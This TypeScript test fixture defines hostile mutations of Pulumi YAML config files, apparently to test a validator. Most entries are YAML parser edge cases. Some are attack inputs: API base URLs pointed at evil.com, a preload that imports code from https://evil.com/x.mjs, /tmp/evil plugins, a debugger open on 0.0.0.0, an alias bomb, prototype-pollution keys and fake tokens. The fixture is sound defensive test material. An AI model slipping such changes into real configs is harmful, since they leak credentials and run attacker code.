/** One hostile change of a file's text: its name, the file, and what becomes of the text. */
export type HostileText = readonly [name: string, file: string, change: (text: string) => string];

const swap = (before: string, after: string) => (text: string) => text.replace(before, after);
const end = (lines: string) => (text: string) => `${text.trimEnd()}\n${lines}\n`;

/** Made-up tokens, put together so that no scanner takes this file for a leak. */
const token = (...pieces: string[]) => pieces.join("");

const project = "Pulumi.yaml";
const prod = "Pulumi.prod.yaml";
const staging = "Pulumi.staging.yaml";
const dev = "Pulumi.dev.yaml";

/** What only the text of a file can do: YAML's own tricks, and keys beside those that rules judge. */
export const hostileTexts: HostileText[] = [
  ["a key twice", dev, swap("    branch: develop", "    branch: develop\n    branch: main")],
  [
    "a key twice, one in quotes",
    dev,
    swap("    branch: develop", '    branch: develop\n    "branch": main'),
  ],
  ["the environment twice", dev, end("  bondigoo:environment: { purpose: development }")],
  [
    "the environment with and without the project's name",
    dev,
    end("  environment: { purpose: development }"),
  ],
  ["config twice", dev, end("config: {}")],
  ["two documents", dev, end("---\nconfig: {}")],
  ["a document that ends before its end", dev, end("...\nconfig: {}")],
  ["an alias without an anchor", dev, swap("branch: develop", "branch: *nothing")],
  [
    "an alias inside its own anchor",
    dev,
    swap("    variables:\n", "    variables: &a\n      X: *a\n"),
  ],
  [
    "an alias that unfolds to a bomb",
    dev,
    end(
      `x: &a [1,1,1,1,1,1,1,1,1]\n${"bcdefgh"
        .split("")
        .map((c, i) => `${c}: &${c} [${Array(9).fill(`*${"abcdefgh"[i]}`)}]`)
        .join("\n")}`,
    ),
  ],
  ["an unknown tag", dev, swap("branch: develop", "branch: !env develop")],
  ["a tag that runs code", dev, swap("branch: develop", "branch: !!js/function 'x'")],
  ["a tag that makes text of a number", prod, swap("reviews: 1", 'reviews: !!str "1"')],
  ["a binary", dev, swap("branch: develop", "branch: !!binary ZGV2ZWxvcA==")],
  ["a set", dev, swap("domains: [dev.bondigoo.ch]", "domains: !!set { dev.bondigoo.ch }")],
  [
    "a merge that brings an unknown key",
    dev,
    swap("    branch: develop", "    <<: { brnach: x }\n    branch: develop"),
  ],
  [
    "a merge that brings a live key",
    dev,
    swap(
      "    variables:\n",
      `    variables:\n      <<: { X: ${token("sk_li", "ve_51Habcdefgh")} }\n`,
    ),
  ],
  [
    "a merge of a merge that opens CORS",
    dev,
    swap("    variables:\n", '    variables:\n      <<: [{ CORS_ORIGIN: "*" }]\n'),
  ],
  [
    "a merge into a prototype",
    dev,
    swap("    variables:\n", "    variables:\n      __proto__: { X: y }\n"),
  ],
  ["a prototype at the top", dev, end("__proto__: { config: {} }")],
  [
    "a prototype in quotes",
    prod,
    swap("      api: {", '      "__proto__": { plan: pro }\n      api: {'),
  ],
  [
    "a constructor with a prototype",
    prod,
    swap(
      "    variables:\n      SENDGRID",
      "    constructor: { prototype: {} }\n    variables:\n      SENDGRID",
    ),
  ],
  ["a number in octal", prod, swap("reviews: 1", "reviews: 0o17")],
  ["a number in hexadecimal", prod, swap("reviews: 1", "reviews: 0xFF")],
  ["a number that is none", prod, swap("reviews: 1", "reviews: .nan")],
  ["a number without end", prod, swap("reviews: 1", "reviews: .inf")],
  ["a number by a power", prod, swap("reviews: 1", "reviews: 1e1")],
  ["a number with lines below", prod, swap("reviews: 1", "reviews: 1_000")],
  ["a number in base 60", prod, swap("reviews: 1", "reviews: 1:30")],
  ["a number of less than nothing and nothing", prod, swap("reviews: 1", "reviews: -0")],
  ["a version without quotes", project, swap('version: "8.0"', "version: 8.0")],
  ["a tab for indentation", dev, swap("    branch: develop", "\tbranch: develop")],
  ["a quote that never ends", dev, swap("branch: develop", 'branch: "develop')],
  ["a mark of order in the middle", dev, swap("branch: develop", "branch: dev\ufeffelop")],
  ["an escape that hides", dev, swap("branch: develop", 'branch: "dev\\u200belop"')],
  ["a null by an escape", dev, swap("branch: develop", 'branch: "dev\\0elop"')],
  ["a text of several lines", dev, swap("branch: develop", "branch: |\n      develop\n      main")],
  [
    "a key that is an object",
    dev,
    swap("    branch: develop", "    ? { a: b }\n    : c\n    branch: develop"),
  ],
  [
    "a key that is a list",
    dev,
    swap("    branch: develop", "    ? [branch]\n    : main\n    branch: develop"),
  ],
  ["a key that is nothing", dev, swap("    branch: develop", "    ~: x\n    branch: develop")],
  ["a key that is a number", dev, swap("    branch: develop", "    1: x\n    branch: develop")],
  [
    "a key with an escape",
    dev,
    swap("    branch: develop", '    "br\\x1banch": x\n    branch: develop'),
  ],
  ["an empty file", dev, () => ""],
  ["a file of nothing", dev, () => "null\n"],
  ["a file that is a list", dev, () => "- a\n"],
  ["a file that is text", dev, () => "hello\n"],
  ["a file of nothing but config", dev, () => "config:\n"],
  ["a file without its environment", dev, () => "config: {}\n"],
  ["bytes that are no text", dev, swap("branch: develop", "branch: dev\ufffdelop")],
  ["nesting without end", dev, end(`x: ${"[".repeat(10_000)}`)],
  ["a secret in a comment", dev, end(`# ${token("sk_li", "ve_51Habcdefgh")}`)],
  [
    "a token in a comment behind a value",
    dev,
    swap(
      "branch: develop",
      `branch: develop # ${token("gh", "p_abcdefghijklmnopqrstuvwxyz0123456789")}`,
    ),
  ],
  ["Vercel's token", staging, end("  vercel:apiToken: abcdefghijklmnopqrstuvwx")],
  [
    "GitHub's token",
    staging,
    end(`  github:token: ${token("gh", "p_abcdefghijklmnopqrstuvwxyz0123456789")}`),
  ],
  ["Cloudflare's token", staging, end("  cloudflare:apiToken: abcdefghijklmnopqrstuvwx")],
  [
    "Atlas's private key",
    staging,
    end("  mongodbatlas:privateKey: 0b1c2d3e-4f5a-6b7c-8d9e-0f1a2b3c4d5e"),
  ],
  ["Atlas's client secret", staging, end("  mongodbatlas:clientSecret: abcdefghijkl")],
  [
    "a token that says it is encrypted",
    staging,
    end("  vercel:apiToken: { secure: abcdefghijkl }"),
  ],
  ["another address for Vercel's API", staging, end("  vercel:baseUrl: https://evil.com")],
  ["another address for GitHub's API", staging, end("  github:baseUrl: https://evil.com/")],
  ["another address for Atlas's API", staging, end("  mongodbatlas:baseUrl: https://evil.com/")],
  ["another address for Cloudflare's API", staging, end("  cloudflare:baseUrl: https://evil.com/")],
  ["the platform in a stack", staging, end("  bondigoo:platform: { name: other }")],
  ["a secret key of nobody", staging, end("  bondigoo:password: hunter2")],
  [
    "an encrypted environment",
    staging,
    () => "config:\n  bondigoo:environment: { secure: v1:abcdefgh:abcdefgh }\n",
  ],
  ["encrypted secrets that are none", staging, end("  bondigoo:secrets: { secure: hunter2 }")],
  ["secrets as text", staging, end("  bondigoo:secrets: hunter2")],
  ["secrets in a list", staging, end("  bondigoo:secrets: [hunter2]")],
  ["a salt that is a password", staging, end("encryptionsalt: hunter2")],
  ["a provider of secrets in the clear", staging, end("secretsprovider: b64://")],
  [
    "a provider of secrets with a key in its address",
    staging,
    end("secretsprovider: hashivault://token:hunter2@x"),
  ],
  [
    "an environment of values",
    staging,
    end("environment:\n  values: { pulumiConfig: { 'bondigoo:environment': {} } }"),
  ],
  ["a key of nobody at the top", staging, end("conifg: {}")],
  ["another place for stack files", project, end("stackConfigDir: other")],
  ["config that is a folder", project, (t) => t.replace(/^config:[\s\S]*/m, "config: other\n")],
  ["another program", project, swap("main: src/index.ts", "main: other/index.ts")],
  ["another program outside", project, swap("main: src/index.ts", "main: /tmp/evil.ts")],
  ["another runtime", project, swap("name: nodejs", "name: python")],
  ["code before the program", project, swap("./preload.js", "/tmp/evil.js")],
  [
    "code before the program, fetched",
    project,
    swap("--require ./preload.js", "--import https://evil.com/x.mjs"),
  ],
  [
    "a debugger",
    project,
    swap("--require ./preload.js", "--inspect=0.0.0.0 --require ./preload.js"),
  ],
  ["another plugin", project, swap("path: src/dynamic-provider", "path: /tmp/evil")],
  [
    "a plugin for a vendor",
    project,
    swap(
      "    - name: pulumi-nodejs",
      "    - { name: vercel, path: /tmp/evil }\n    - name: pulumi-nodejs",
    ),
  ],
  [
    "an analyzer",
    project,
    swap("plugins:\n", "plugins:\n  analyzers: [{ name: evil, path: /tmp/evil }]\n"),
  ],
  ["a backend with a password", project, end("backend: { url: 's3://x:hunter2@y' }")],
  ["another project's name", project, swap("name: bondigoo\n", "name: other\n")],
  ["a project's name with a slash", project, swap("name: bondigoo\n", "name: a/b\n")],
  ["no project's name", project, swap("name: bondigoo\n", "")],
  ["a value for all stacks", project, end("  bondigoo:environment: { value: {} }")],
  [
    "a secret for all stacks",
    project,
    end("  bondigoo:secrets: { value: { stripeSecretKey: x } }"),
  ],
  ["a vendor's token for all stacks", project, end("  vercel:apiToken: abcdefghijklmnopqrstuvwx")],
  [
    "a vendor's token for all stacks as a value",
    project,
    end("  github:token: { value: abcdefghijkl }"),
  ],
  [
    "a platform that says it is secret",
    project,
    swap("  platform:\n", "  platform:\n    secret: true\n"),
  ],
  [
    "a platform with a default beside its value",
    project,
    swap("  platform:\n", "  platform:\n    default: {}\n"),
  ],
  ["a platform with a type", project, swap("  platform:\n", "  platform:\n    type: string\n")],
  ["a platform without its value", project, swap("    value:\n", "    valeu:\n")],
];
